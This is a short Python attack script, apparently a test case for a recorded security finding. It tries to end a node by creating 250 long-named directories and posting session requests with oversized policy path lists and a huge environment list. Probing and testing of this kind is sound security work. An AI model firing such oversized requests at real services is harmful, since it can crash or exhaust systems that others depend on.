# name: end the node by asking for a session with a long policy
# line: 68
# finding: 6
# play: outside
import json
import os

from attack import STAGE, ask_node, planted_or_ended


def wanted(policy):
    return json.dumps({"policy": {"isolation": STAGE["level"], **policy}}).encode()


# Only existing paths become part of the plan.
paths = [f"{os.getcwd()}/{number}-{'x' * 240}" for number in range(250)]
for path in paths:
    os.mkdir(path)
planted_or_ended([
    ("hidden", lambda: ask_node("POST", "/v1/sessions", wanted({"hidden": paths}))),
    ("readable", lambda: ask_node("POST", "/v1/sessions", wanted({"readable": ["/usr", *paths]}))),
    ("writable", lambda: ask_node("POST", "/v1/sessions", wanted({"writable": paths}))),
    ("environment", lambda: ask_node("POST", "/v1/sessions", wanted({"environment": ["A" * 4000] * 250}))),
])
